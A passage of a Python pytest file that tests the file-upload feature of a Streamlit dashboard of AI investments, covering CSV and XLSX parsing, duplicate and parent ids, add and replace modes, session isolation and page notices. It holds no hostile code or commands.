"""Uploading one's own dataset: the pure check, the session wiring, isolation, untrusted text, export.

The pure core is ``dataset.check_upload`` (no Streamlit). The app side is driven with AppTest,
which in Streamlit 1.67 can set ``st.file_uploader`` values (``set_value((name, bytes, mime))``),
which the next run checks (``upload.sync_file``) as it would a browser's. What AppTest cannot show is
the browser: the 5 MB limit that the frontend enforces before sending (``server.maxUploadSize``),
and two sessions at the same time; ``tests/browser/test_isolation.py`` covers those in Chromium.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import math
import re
import sys
from datetime import date, datetime
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from dashboard import dataset, export, ledger, report, schema, upload_checks
from support import upload_summary
from dashboard.dataset import check_upload, contract_csv, read_dataset
from dashboard.ui import upload
from dashboard.settings import DEFAULT_ITEMS
from dashboard.ui.controls import widget_key

REPO = Path(__file__).resolve().parents[1]
APP = str(REPO / "app.py")
GOOD = REPO / "tests" / "data" / "good" / "minimal.csv"
HOSTILE = REPO / "tests" / "data" / "hostile"
PAGES = ("overview", "compare", "timeline", "compute", "data_sources", "method")
# Rows of the bundled file, counted with the csv module: the dataset grows with every data issue.
with (REPO / "data" / "investments.csv").open(encoding="utf-8", newline="") as _fh:
    BUNDLED_ROWS = sum(1 for _ in csv.DictReader(_fh))


@pytest.fixture(scope="module")
def bundled() -> pd.DataFrame:
    return read_dataset(dataset.default_dataset_path())


def good_text() -> str:
    return GOOD.read_text()


def lines(result: dataset.Upload) -> list[str]:
    return [str(p) for p in result.problems]


# --- the pure check -----------------------------------------------------------------------------


def test_valid_contract_file_gives_the_same_frame_as_the_strict_reader() -> None:
    result = check_upload(GOOD.read_bytes(), "minimal.csv")
    assert result.ok and result.problems == []
    pd.testing.assert_frame_equal(result.frame, read_dataset(GOOD))
    assert upload_summary(result) == "6 rows read as comma-separated, UTF-8"


def test_an_announcement_in_the_future_is_rejected_with_its_cell() -> None:
    """A row announced on 2099-01-01 was read, and every page then said "Data as of Jan 1, 2099"
    (new-user pass); ``validate`` passed it too."""
    text = GOOD.read_text(encoding="utf-8").replace("2025-02-11", "2099-01-01", 1)
    result = check_upload(text.encode(), "future.csv")
    assert not result.ok
    [problem] = [str(p) for p in result.problems]
    # (the date is read twice: a run across midnight must not fail)
    assert problem.startswith("row 1 (id alpha-programme), announced: '2099-01-01' lies in the future (today is 20")
    this_month = GOOD.read_text(encoding="utf-8").replace("2025-02-11", date.today().isoformat()[:7], 1)
    assert check_upload(this_month.encode(), "now.csv").ok  # a month names its first day


def test_add_mode_validates_upload_and_bundled_data_as_one(bundled) -> None:
    result = check_upload(GOOD.read_bytes(), "minimal.csv", mode="add", bundled=bundled)
    assert result.ok
    assert len(result.frame) == 6 + len(bundled)
    assert result.frame[schema.ID].tolist()[:6] == read_dataset(GOOD)[schema.ID].tolist()  # uploaded rows first
    assert result.frame.index.tolist() == list(range(1, 7 + len(bundled)))
    assert upload_summary(result) == "6 rows read as comma-separated, UTF-8"


def test_duplicate_ids_with_the_bundled_data_name_both_rows(bundled) -> None:
    first = bundled[schema.ID].iloc[0]
    stargate_row = int(bundled.index[bundled[schema.ID] == "stargate"][0])
    text = good_text().replace("alpha-programme", first).replace("gamma-cloud", "stargate")
    result = check_upload(text.encode(), "dup.csv", mode="add", bundled=bundled)
    assert lines(result) == [
        f"row 1 (id {first}), id: duplicate id, also bundled row 1",
        f"row 6 (id stargate), id: duplicate id, also bundled row {stargate_row}",
    ]
    # Without the bundled data the same file is valid: only "add" clashes.
    assert check_upload(text.encode(), "dup.csv").ok


def test_duplicates_inside_the_upload_and_with_the_bundled_data_are_named_together(bundled) -> None:
    text = good_text().replace("alpha-programme,,headline", "stargate,,headline").replace(
        "gamma-cloud", "stargate").replace("alpha-fund,alpha-programme", "alpha-fund,stargate")
    result = check_upload(text.encode(), "dup.csv", mode="add", bundled=bundled)
    stargate_row = int(bundled.index[bundled[schema.ID] == "stargate"][0])
    assert lines(result) == [
        f"row 1 (id stargate), id: duplicate id, also row 6 and bundled row {stargate_row}",
        f"row 6 (id stargate), id: duplicate id, also row 1 and bundled row {stargate_row}",
    ]


def test_a_parent_may_be_a_bundled_row_only_when_adding(bundled) -> None:
    text = good_text().replace("site-count,,context", "site-count,stargate,context")
    assert check_upload(text.encode(), "child.csv", mode="add", bundled=bundled).ok
    assert lines(check_upload(text.encode(), "child.csv")) == [
        "row 5 (id site-count), parent_id: 'stargate' is not the id of any row"]


def test_size_limit_is_checked_on_the_bytes_and_names_the_limit() -> None:
    content = GOOD.read_bytes()
    result = check_upload(content, "x.csv", max_bytes=1000)
    assert lines(result) == [
        f"file: the file is 0.0 MB ({len(content):,} bytes); uploads are limited to 0.001 MB (1,000 bytes)"]
    assert check_upload(content, "x.csv", max_bytes=len(content)).ok


def test_german_amounts_are_only_decimal_commas_in_semicolon_files() -> None:
    semicolon = good_text().replace(",", ";").replace("37500000000;37500000000", "37.500.000.000,75;1.234.567.890.123")
    frame = check_upload(semicolon.encode()).frame
    assert frame.loc[6, schema.AMOUNT_LOW] == 37_500_000_000.75 and frame.loc[6, schema.AMOUNT_HIGH] == 1_234_567_890_123
    # the same cells in the comma-separated contract are not numbers
    comma = good_text().replace("37500000000,37500000000", '"37.500.000.000,75","1.234.567.890.123"')
    assert [p.column for p in check_upload(comma.encode()).problems] == ["amount_low", "amount_high"]


def test_a_semicolon_file_with_a_decimal_point_keeps_it() -> None:
    text = good_text().replace(",", ";").replace("37500000000;37500000000", "37500000000.5;37500000000.5")
    result = check_upload(text.encode())
    assert result.ok and result.frame.loc[6, schema.AMOUNT_LOW] == 37_500_000_000.5
    assert result.variant.decimal == "."


def test_thousands_grouped_with_points_in_a_decimal_point_file_are_named_as_such() -> None:
    """German Excel's "250.000.000.000" beside a "1.3" got the validator's "write 200000000000: digits,
    '.' for decimals", no help (QA pass 14): the line says what clashes and what to write."""
    text = good_text().replace(",", ";").replace("37500000000;37500000000", "37.500.000.000;37500000000.5")
    assert lines(check_upload(text.encode())) == [
        "row 6 (id gamma-cloud), amount_low: '37.500.000.000' groups thousands with '.', but this file writes "
        "decimals with '.' ('37500000000.5' in amount_high of gamma-cloud): write 37500000000, or a decimal comma "
        "in every amount"
    ]
    # One group alone is a decimal number in such a file, as before: "37.500" is 37.5.
    one = good_text().replace(",", ";").replace("37500000000;37500000000", "37.500;37500000000.5")
    assert check_upload(one.encode()).frame.loc[6, schema.AMOUNT_LOW] == 37.5


def test_xlsx_without_openpyxl_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    from dashboard import xlsx

    monkeypatch.setitem(sys.modules, "openpyxl", None)  # "import openpyxl" raises ImportError
    # What the child process of read_xlsx runs, here in this process, where openpyxl is missing.
    assert xlsx.sheet_records((HOSTILE / "spreadsheet.xlsx").read_bytes(), 20_000) == (
        [], "XLSX needs openpyxl, which is not installed; export as CSV")


def test_xlsx_with_openpyxl_reads_the_first_sheet() -> None:
    pytest.importorskip("openpyxl", reason="openpyxl is optional (not a dependency)")
    result = check_upload((HOSTILE / "spreadsheet.xlsx").read_bytes(), "book.xlsx")
    assert result.ok and upload_summary(result) == "6 rows read as XLSX (first sheet)"
    pd.testing.assert_frame_equal(result.frame, read_dataset(GOOD))


def test_an_xlsx_whose_first_sheet_is_not_the_data_names_that_sheet() -> None:
    """"the first line is not the dataset header (found 'Notes')" did not say that only the first
    sheet is read, nor which it was: the data was on the second (QA pass 28)."""
    openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is optional (not a dependency)")
    frame = read_dataset(GOOD)
    book = openpyxl.Workbook()
    book.active.title = "ReadMe"
    book.active.append(["Notes"])
    data_sheet = book.create_sheet("Data")
    data_sheet.append(list(frame.columns))
    data = io.BytesIO()
    book.save(data)
    assert lines(check_upload(data.getvalue(), "book.xlsx")) == [
        "file: the first sheet, 'ReadMe', is not the dataset, and the sheet 'Data' seems to be: an upload reads only "
        "the first of the workbook's 2 sheets, so move that one to the front"
    ]
    # Data under a title row on the first sheet is not told to move (review 54): the header's own message.
    book.move_sheet("Data", offset=-1)
    book["Data"].insert_rows(1)
    book["Data"].cell(1, 1).value = "AI investments"
    data = io.BytesIO()
    book.save(data)
    said = lines(check_upload(data.getvalue(), "book.xlsx"))
    assert len(said) == 1 and said[0].startswith("file: the first line is not the dataset header"), said
    # An empty first sheet, and a sheet of rates with a "currency" column before the data (review 55).
    book = openpyxl.Workbook()
    book.active.title = "Sheet1"
    book.create_sheet("FX rates").append(["currency", "rate"])
    book.create_sheet("Data").append(list(frame.columns))
    data = io.BytesIO()
    book.save(data)
    assert lines(check_upload(data.getvalue(), "book.xlsx")) == [
        "file: the first sheet, 'Sheet1', is not the dataset, and the sheet 'Data' seems to be: an upload reads only "
        "the first of the workbook's 3 sheets, so move that one to the front"
    ]


def test_an_xlsx_rejected_for_a_row_says_how_its_rows_are_counted() -> None:
    """"row 1 is the file's line 2" read oddly for a sheet, whose empty rows are skipped (QA pass 28)."""
    openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is optional (not a dependency)")
    frame = read_dataset(GOOD).astype(object).where(lambda f: f.notna(), "")
    book = openpyxl.Workbook()
    book.active.append(list(frame.columns))
    book.active.append([])  # an empty row the reader skips
    for record in frame.to_dict("records"):
        book.active.append([record[c] for c in frame.columns])
    book.active.cell(3, list(frame.columns).index("region") + 1).value = "Atlantis"
    data = io.BytesIO()
    book.save(data)
    at = upload_file(new_app(), "book.xlsx", data.getvalue())
    captions = [c.value for c in at.sidebar.caption]
    assert any(c.startswith("Rows are counted from the first filled row under the header") for c in captions), captions
    assert not any("line 2" in c for c in captions), captions


def test_xlsx_date_cells_keep_the_precision_they_show() -> None:
    """Excel turns "2025-05" typed into a cell into 1 May 2025 shown "May-25": read as the 1st, a
    month's figure took one day's rate instead of the month's average (QA pass 21). A date cell is
    read as precise as its number format shows it; a period that shows only a month is a period."""
    openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is optional (not a dependency)")
    frame = read_dataset(GOOD)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(frame.columns))
    for record in frame.to_dict("records"):
        sheet.append([record[c] for c in frame.columns])
    header = list(frame.columns)
    shown = {"announced": ("mmm-yy", "yyyy-mm-dd"), "period_start": ("yyyy-mm", "yyyy-mm")}
    for column, (month_format, day_format) in shown.items():
        first, second = sheet.cell(2, header.index(column) + 1), sheet.cell(3, header.index(column) + 1)
        first.value, first.number_format = datetime(2025, 5, 1), month_format
        second.value, second.number_format = datetime(2025, 5, 1), day_format
    data = io.BytesIO()
    book.save(data)
    result = check_upload(data.getvalue(), "book.xlsx")
    assert result.ok, lines(result)
    assert list(result.frame["announced"][:2]) == ["2025-05", "2025-05-01"]
    assert result.frame["period_start"].iloc[0] == "2025-05"


def test_unknown_mode_is_a_programming_error(bundled) -> None:
    with pytest.raises(ValueError):
        check_upload(b"", mode="merge")
    with pytest.raises(ValueError):
        check_upload(b"", mode="add")


@settings(max_examples=60, deadline=None)
@given(data=st.binary(max_size=400), semicolon=st.booleans())
def test_arbitrary_bytes_give_a_frame_or_problems_never_an_exception(data: bytes, semicolon: bool) -> None:
    content = (good_text().replace(",", ";") if semicolon else good_text()).encode()[:200] + data
    result = check_upload(content, "fuzz.csv")
    assert (result.frame is None) == bool(result.problems)
    assert all(str(p).startswith(("file: ", "header, ", "row ")) for p in result.problems)


# --- contract CSV: what the session keeps ----------------------------------------------------------


def test_contract_csv_reads_back_to_the_same_frame(bundled) -> None:
    pd.testing.assert_frame_equal(read_dataset(contract_csv(bundled)), bundled)
    for name in ("german_excel_semicolon.csv", "latin1_umlauts.csv", "html_markdown_names.csv",
                 "formula_cells.csv", "cp1252_euro_quotes.csv"):
        frame = check_upload((HOSTILE / name).read_bytes(), name).frame
        pd.testing.assert_frame_equal(read_dataset(contract_csv(frame)), frame, obj=name)


@settings(max_examples=100, deadline=None)
@given(st.floats(min_value=0, max_value=schema.MAX_AMOUNT, allow_nan=False, allow_infinity=False))
def test_any_amount_survives_the_contract_csv_exactly(amount: float) -> None:
    frame = read_dataset(GOOD)
    frame.loc[1, [schema.AMOUNT_LOW, schema.AMOUNT_HIGH]] = [amount, max(amount, 1.0)]
    back = read_dataset(contract_csv(frame))
    assert back.loc[1, schema.AMOUNT_LOW] == amount and back.loc[1, schema.AMOUNT_HIGH] == max(amount, 1.0)


# --- no module-level mutable state ----------------------------------------------------------------


@pytest.mark.parametrize("path", ["dashboard/ui/upload.py", "dashboard/ui/context.py", "dashboard/dataset.py"])
def test_modules_keep_no_mutable_state_at_module_level(path: str) -> None:
    tree = ast.parse((REPO / path).read_text(encoding="utf-8"))
    mutable = (ast.List, ast.Dict, ast.Set, ast.ListComp, ast.DictComp, ast.SetComp, ast.Call)
    allowed_calls = {"re.compile", "frozenset", "TypeVar", "Union", "N_"}  # N_ returns its str
    offenders = []
    for node in tree.body:
        if isinstance(node, (ast.Assign, ast.AnnAssign)) and node.value is not None:
            value = node.value
            if isinstance(value, mutable):
                name = ast.unparse(value.func) if isinstance(value, ast.Call) else ""
                if name not in allowed_calls:
                    offenders.append(ast.unparse(node)[:80])
    # dataset.py's type alias is a Union[...] subscript, not state: allowed by name
    offenders = [o for o in offenders if not o.startswith("Source =")]
    assert not offenders, offenders


# --- the app: AppTest drives the uploader ------------------------------------------------------------


def new_app(params: dict | None = None) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=60)
    for key, value in (params or {}).items():
        at.query_params[key] = value
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    return at


def upload_file(at: AppTest, name: str, content: bytes) -> AppTest:
    at.file_uploader(key="upload_file").set_value((name, content, "text/csv"))
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    return at


def items_counted(at: AppTest) -> str:
    return next(m.value for m in at.metric if m.label in ("Items counted", "Gezählte Posten"))


def in_use(at: AppTest) -> str:
    return next(c.value for c in at.sidebar.caption if c.value.startswith("Data in use"))


def expected_items(frame: pd.DataFrame) -> int:
    rows = ledger.normalise(frame, currency="EUR", basis="announcement", year=None, revisions="latest",
                            on_missing="mark")
    return len(ledger.totals(ledger.apply_filters(rows, ledger.Filters()), view="total").ids)


def test_upload_widgets_have_the_documented_keys_and_types() -> None:
    at = new_app()
    uploader = at.file_uploader(key="upload_file")
    assert set(uploader.allowed_type) == {".csv", ".txt", ".xlsx"}
    assert at.radio(key="upload_mode-en").options == ["replace the bundled data", "add to the bundled data"]
    assert at.radio(key="upload_mode-en").value == "replace"
    assert at.button(key="upload_reset").disabled
    assert in_use(at) == f"Data in use: the bundled dataset ({BUNDLED_ROWS} rows)."


def test_a_valid_upload_replaces_the_data_for_this_session_and_reset_brings_back_the_bundled(bundled) -> None:
    at = new_app()
    bundled_kpis = [m.value for m in at.metric]
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    assert items_counted(at) == str(expected_items(read_dataset(GOOD))) != bundled_kpis[2]
    assert [s.value for s in at.sidebar.success] == ["minimal\\.csv: 6 rows read as comma\\-separated\\, UTF\\-8."]
    assert in_use(at) == "Data in use: minimal\\.csv (6 rows) instead of the bundled dataset."
    # A reload is a new session (below): the reader is told before losing the upload to one.
    kept = "Kept in this browser tab only: a reload, or this page's link opened elsewhere, shows the bundled data."
    assert kept in [c.value for c in at.sidebar.caption]
    entry = at.session_state[upload.ACCEPTED_KEY]
    assert entry["content"] == contract_csv(read_dataset(GOOD)) and entry["mode"] == "replace"
    assert not at.button(key="upload_reset").disabled

    other = new_app()  # a new session: the upload is not there
    assert [m.value for m in other.metric] == bundled_kpis
    assert in_use(other) == f"Data in use: the bundled dataset ({BUNDLED_ROWS} rows)."
    assert kept not in [c.value for c in other.sidebar.caption]

    at.button(key="upload_reset").click().run()
    assert not at.exception
    assert [m.value for m in at.metric] == bundled_kpis
    assert upload.ACCEPTED_KEY not in at.session_state
    assert in_use(at) == f"Data in use: the bundled dataset ({BUNDLED_ROWS} rows)."
    # The uploader no longer lists the file (it did, though the bundled data was in use) ...
    assert [u.key for u in at.get("file_uploader")] == ["upload_file-1"] and at.file_uploader(key="upload_file-1").value is None
    # ... and the same file can be used again.
    at.file_uploader(key="upload_file-1").set_value(("minimal.csv", GOOD.read_bytes(), "text/csv")).run()
    assert not at.exception and in_use(at) == "Data in use: minimal\\.csv (6 rows) instead of the bundled dataset."


def test_how_a_file_was_read_is_said_in_the_language_in_use_when_shown() -> None:
    at = new_app({"lang": "de"})
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    assert [s.value for s in at.sidebar.success] == ["minimal\\.csv: 6 Zeilen gelesen als kommagetrennt\\, UTF\\-8."]
    at.selectbox(key=widget_key("lang", "de")).set_value("en").run()
    assert not at.exception
    assert [s.value for s in at.sidebar.success] == ["minimal\\.csv: 6 rows read as comma\\-separated\\, UTF\\-8."]


def test_added_rows_that_revise_a_bundled_item_say_so() -> None:
    # An added revision of Stargate replaced its counted figure (the total fell by €470bn) under
    # "3 rows ... added to the bundled dataset" and nothing else (QA pass).
    text = good_text().replace("beta-campus-2025-09,beta-campus,revision", "beta-campus-2025-09,stargate,revision").replace(
        "Beta campus (September update),,Beta Corp,private", "Beta campus (September update),,Beta Corp,corporate")
    at = new_app()
    at.radio(key="upload_mode-en").set_value("add").run()
    upload_file(at, "child.csv", text.encode())
    assert not at.exception
    said = [i.value for i in at.sidebar.info if "bundled item" in i.value]
    assert said == [
        "Your rows revise or add parts to a bundled item, which changes it in every view (a revision becomes the "
        "figure counted): Stargate Project."
    ], said
    plain = new_app()
    plain.radio(key="upload_mode-en").set_value("add").run()
    upload_file(plain, "minimal.csv", GOOD.read_bytes())
    assert not [i for i in plain.sidebar.info if "bundled item" in i.value]


@pytest.mark.parametrize("lang", ["en", "de"])
def test_an_uploaded_revision_in_another_region_says_it_moves_its_items_money(lang, bundled) -> None:
    # A revision of Stargate placed in Asia moved $500bn out of North America, and the upload
    # report said only "3 rows read" (QA pass 2).
    row = "beta-campus-2025-09,beta-campus,revision,Beta campus (September update),,Beta Corp,private,North America,US"
    # A revision keeps its item's actor_type (attack round 7): Stargate's is corporate.
    moved_row = "beta-campus-2025-09,stargate,revision,Beta campus (September update),,Beta Corp,corporate,Asia,JP"
    text = good_text().replace(row, moved_row)

    def moved(content: str) -> list:
        frame = check_upload(content.encode(), "x.csv", mode="add", bundled=bundled).frame
        return upload_checks.moved_revisions(frame, frame["id"].tolist())

    assert moved(text) == [("beta-campus-2025-09", "North America", "US", "Asia", "JP")]
    # Only a revision a total counts moves money: not a cancelled one, nor one a later revision
    # in the item's own place overtakes (review).
    line = next(r for r in text.splitlines() if r.startswith(moved_row))
    cancelled = text.replace(line, line.replace(",committed,", ",cancelled,"))
    assert cancelled != text and moved(cancelled) == []
    later = line.replace("beta-campus-2025-09,", "beta-later,").replace(",Asia,JP,", ",North America,US,")
    later = later.replace(",2025-09,2025-09,", ",2025-11,2025-09,")
    assert later.startswith("beta-later,") and ",2025-11," in later
    later = text.rstrip("\n") + "\n" + later + "\n"
    assert moved(later) == []
    at = new_app({"lang": lang})
    at.radio(key=f"upload_mode-{lang}").set_value("add").run()
    upload_file(at, "moved.csv", text.encode())
    said = [w.value.replace("\\", "") for w in at.sidebar.warning]
    start = "A revision that is its item's latest figure names" if lang == "en" else "Eine Revision, die der neueste Wert"
    place = "North America (US) → Asia (JP)" if lang == "en" else "Nordamerika (US) → Asien (JP)"
    assert len(said) == 1 and said[0].startswith(start), said
    assert f"beta-campus-2025-09: {place}." in said[0], said
    # The same revision in its item's region, and a file with none: no warning.
    for same in (text.replace(",Asia,JP,", ",North America,US,"), good_text()):
        plain = new_app({"lang": lang})
        plain.radio(key=f"upload_mode-{lang}").set_value("add").run()
        upload_file(plain, "same.csv", same.encode())
        assert plain.sidebar.success and not plain.sidebar.warning, [w.value for w in plain.sidebar.warning]


def test_rows_for_the_bundled_data_uploaded_as_the_whole_dataset_point_to_add() -> None:
    # A file of rows that revise bundled items, uploaded under "replace", was refused for its
    # unknown parents with no word of "add", which takes it (QA pass 2).
    text = good_text().replace("beta-campus-2025-09,beta-campus,revision", "beta-campus-2025-09,stargate,revision").replace(
        "Beta campus (September update),,Beta Corp,private", "Beta campus (September update),,Beta Corp,corporate")
    hint = "Its rows name rows of the bundled data as parents: to add the file to the bundled data, choose"
    at = upload_file(new_app(), "child.csv", text.encode())
    assert at.sidebar.error and any(c.value.startswith(hint) for c in at.sidebar.caption), [
        c.value for c in at.sidebar.caption]
    at.radio(key="upload_mode-en").set_value("add").run()
    assert at.sidebar.success and not any(c.value.startswith(hint) for c in at.sidebar.caption)
    # With a typo besides, "add" would refuse the file too, for the typo alone: the hint still shows (it
    # waited for the whole file to pass under "add": review).
    typo = text.replace(",announced,ai-infrastructure,low,https://example.net/gamma,",
                        ",anounced,ai-infrastructure,low,https://example.net/gamma,")
    assert typo != text
    at = upload_file(new_app(), "typo.csv", typo.encode())
    assert at.sidebar.error and any(c.value.startswith(hint) for c in at.sidebar.caption)
    # An unknown parent the bundled data does not have either: no hint.
    other = text.replace("beta-campus-2025-09,stargate,revision", "beta-campus-2025-09,nowhere,revision")
    at = upload_file(new_app(), "other.csv", other.encode())
    assert at.sidebar.error and not any(c.value.startswith(hint) for c in at.sidebar.caption)
    # An edited copy of the bundled data without Stargate's row: "add" refuses it too (every id
    # clashes), so no hint sends the reader there and back (review).
    edited = (REPO / "data" / "investments.csv").read_text(encoding="utf-8").splitlines(keepends=True)
    at = upload_file(new_app(), "edited.csv", "".join(r for r in edited if not r.startswith("stargate,")).encode())
    assert at.sidebar.error and not any(c.value.startswith(hint) for c in at.sidebar.caption), [
        c.value for c in at.sidebar.caption]


def test_a_chart_footer_names_the_bundled_data_too_when_an_upload_is_added(bundled) -> None:
    at = new_app()
    at.radio(key="upload_mode-en").set_value("add").run()
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    # The footer is a legend entry, wrapped with <br>.
    spec = json.dumps(json.loads(at.get("plotly_chart")[0].proto.spec)).replace("<br>", " ")
    assert "the AI investment dashboard dataset and your uploaded file minimal.csv" in spec
    at.radio(key="upload_mode-en").set_value("replace").run()
    spec = json.dumps(json.loads(at.get("plotly_chart")[0].proto.spec)).replace("<br>", " ")
    assert "your uploaded file minimal.csv" in spec and "dataset and your uploaded" not in spec


def test_a_counted_training_cost_in_an_upload_is_its_own_kind_not_a_pledge() -> None:
    """The bundled data keeps training costs as context; an uploaded headline one was counted
    under "Pledges" (on the Overview's card, in ``totals --by kind`` and the export's kind)."""
    text = GOOD.read_text(encoding="utf-8").replace(",announced,ai-infrastructure,low,https://example.net/gamma,",
                                                    ",spent,training-cost,low,https://example.net/gamma,")
    at = upload_file(new_app(), "training.csv", text.encode())
    cards = {m.label: m for m in at.metric}
    # Its one figure is "more than" (Gamma's wording), which the card's sum keeps.
    assert cards["Training cost"].value.startswith("more than €"), cards["Training cost"].value
    assert cards["Training cost"].help.endswith(" 1 item.")
    assert cards["Pledges"].help.endswith(" 1 item.")  # Beta campus only
    assert cards["Public programmes"].help.endswith(" 1 item.")  # Alpha only, not the public Gamma


def test_a_chart_shown_as_a_table_names_the_uploaded_file_as_its_chart_does() -> None:
    """With both Overview charts as tables, a phone (sidebar closed) showed nothing of the upload
    the numbers came from (QA pass): the table's caption gives the chart's source line."""
    at = upload_file(new_app(), "minimal.csv", GOOD.read_bytes())
    next(b for b in at.button_group if b.key.startswith("overview_ranking-as-")).set_value("table").run()
    assert not at.exception
    captions = [c.value for c in at.caption if c.value.startswith("Largest AI investments")]
    assert len(captions) == 1 and "Data\\: your uploaded file minimal\\.csv" in captions[0], captions


def test_a_countrys_money_without_economy_figures_is_not_called_global() -> None:
    """An upload's Polish programme was listed as "Global money with no economy" (QA pass)."""
    text = GOOD.read_text(encoding="utf-8").replace(",public,Middle East,SA,", ",public,Europe,PL,", 1)
    at = upload_file(new_app({"measure": "gdp-share"}), "poland.csv", text.encode())
    assert not at.exception
    captions = [c.value for c in at.caption]
    assert any(c.startswith("No GDP or population figures") and "Gamma cloud region" in c for c in captions), captions
    assert not any(c.startswith("Not in this ranking (company capex") and "Gamma" in c for c in captions), captions


def test_a_language_switch_keeps_the_upload_mode_and_the_next_clicks_work(bundled) -> None:
    """The mode radio kept one key while its labels changed with the language: the first click
    after a switch handed its callback the old label ("replace the bundled data") and the run failed."""
    at = new_app()
    at.radio(key="upload_mode-en").set_value("add").run()
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    added = items_counted(at)
    at.selectbox(key=widget_key("lang", "en")).set_value("de").run()
    assert at.radio(key="upload_mode-de").value == "add"
    at.selectbox(key=widget_key("currency", "de")).set_value("USD").run()
    assert not at.exception
    assert items_counted(at) == added
    at.radio(key="upload_mode-de").set_value("replace").run()
    assert not at.exception
    assert items_counted(at) == str(expected_items(read_dataset(GOOD)))
    at.selectbox(key=widget_key("lang", "de")).set_value("en").run()
    at.selectbox(key=widget_key("currency", "en")).set_value("EUR").run()
    assert not at.exception and at.radio(key="upload_mode-en").value == "replace"


@pytest.mark.parametrize("page", ["overview", "compare", "timeline", "compute", "method", "data_sources"])
def test_every_page_says_an_upload_is_in_use(page) -> None:
    """Method kept saying "Dataset last updated: …" (the bundled file's date) for an upload; on a
    phone, with the sidebar closed, the Overview's total read as the bundled data's (QA pass)."""
    at = upload_file(new_app(), "minimal.csv", GOOD.read_bytes())
    at.switch_page(f"dashboard/app_pages/{page}.py").run()
    assert not at.exception
    assert any("your uploaded file minimal\\.csv (6 rows) instead of the bundled dataset" in i.value for i in at.info)
    assert not any("Dataset last updated" in m.value for m in at.markdown)
    at.button(key="upload_reset").click().run()
    assert not any("uploaded file" in i.value for i in at.info)
    assert any("Dataset last updated" in m.value for m in at.markdown) == (page == "method")


def test_compare_names_picks_the_upload_does_not_have() -> None:
    at = new_app({"items": ["investai", "stargate"]})
    at.switch_page("dashboard/app_pages/compare.py").run()
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    warnings = [w.value for w in at.warning]
    # Named as the bundled data names them (a QA pass read "stargate, stargate-abilene").
    said = "as the data in use does not have them: InvestAI initiative, Stargate Project."
    assert any(said in w for w in warnings), warnings


def test_a_link_to_an_uploads_comparison_says_why_its_items_are_gone_after_a_reload() -> None:
    """A reload is a new session without the upload: Compare said only "Pick at least two items."
    (session 21's QA) because the link's notice gave no reason a user could act on."""
    at = new_app()
    at.switch_page("dashboard/app_pages/compare.py").run()
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    (picker,) = [m for m in at.multiselect if m.key.startswith(widget_key("items", "en"))]
    picker.set_value(["alpha-programme", "gamma-cloud"]).run()
    link = at.query_params["items"]
    assert set(link) == {"alpha-programme", "gamma-cloud"}, link
    reloaded = new_app({"items": link})
    reloaded.switch_page("dashboard/app_pages/compare.py").run()
    notices = " ".join(w.value for w in reloaded.warning)
    assert "alpha" in notices and "an upload is not kept after a reload" in notices, notices


def test_compare_gives_back_the_picks_an_upload_lacked_once_the_bundled_data_is_back() -> None:
    """The upload's run emptied the picks for good: after "Use bundled data" Compare asked for two
    items and every link said items=none."""
    at = new_app()
    at.switch_page("dashboard/app_pages/compare.py").run()
    defaults = at.multiselect(key=widget_key("items", "en")).value
    assert len(defaults) == 6
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    # The page's own defaults are set aside without a word: the user picked none of them (QA pass).
    assert not any("Left out" in w.value for w in at.warning), [w.value for w in at.warning]
    # But the page says why it is empty: the defaults are not in the file (QA pass 5).
    said = "Pick at least two items: fewer than two of the page's default items are in your uploaded file minimal.csv."
    assert any(said in i.value.replace("\\", "") for i in at.info), [i.value for i in at.info]
    at.button(key="upload_reset").click().run()
    assert not at.exception
    assert at.multiselect(key=widget_key("items", "en")).value == defaults
    assert not any("at least two" in i.value for i in at.info)


@pytest.mark.parametrize("page", ["overview", "timeline"])
def test_use_bundled_data_on_another_page_gives_the_picks_back_to_its_link(page) -> None:
    """Pressed on the Overview, "Use bundled data" left items=none in the link until Compare ran:
    the copied link opened an empty Compare (QA pass 10)."""
    at = to_page(new_app({"cur": "USD"}), "compare")
    upload_file(at, "minimal.csv", GOOD.read_bytes())
    assert "items" not in at.query_params  # the page's defaults, untouched (QA pass 28); it said "none"
    to_page(at, page)
    at.button(key="upload_reset").click().run()
    assert not at.exception
    assert "items" not in at.query_params and at.query_params["cur"] == "USD"
    to_page(at, "compare")
    assert compare_picks(at) == list(DEFAULT_ITEMS)
    assert not any("Left out" in w.value for w in at.warning), [w.value for w in at.warning]


def test_a_pick_given_back_on_another_page_keeps_its_place() -> None:
    at = to_page(new_app({"items": PICKS[:3]}), "compare")
    upload_file(at, "edited.csv", bundled_without(PICKS[1]))
    to_page(at, "overview")
    at.button(key="upload_reset").click().run()
    assert list(at.query_params["items"]) == PICKS[:3]
    to_page(at, "compare")
    assert compare_picks(at) == PICKS[:3]


def test_an_uploaded_programme_with_a_capacity_is_named_as_whole_on_the_gw_charts() -> None:
    """A programme's whole budget over its GW drew on the cost-per-GW chart's PNG and CSV without
    the "whole programmes" note, which the accelerators chart carried (QA pass 11)."""
    header = "id,parent_id,role,name,name_de,actor,actor_type,region,country,amount_low,amount_high,amount_kind,"
    header += "currency,announced,period_start,period_end,status,scope,confidence,source_url,note,"
    header += "capacity_gw_low,capacity_gw_high,capacity_gw_kind"
    row = "qa-programme,,headline,QA programme,,QA state,public,Europe,DE,10000000000,10000000000,exact,"
    row += "EUR,2026-03-01,,,announced,ai-programme,medium,https://example.org/qa,,1,1,exact"
    at = new_app()
    at.radio(key="upload_mode-en").set_value("add").run()
    upload_file(at, "programme.csv", f"{header}\n{row}\n".encode())
    to_page(at, "compute")
    for key in ("compute_cost_per_gw", "compute_money_gw"):
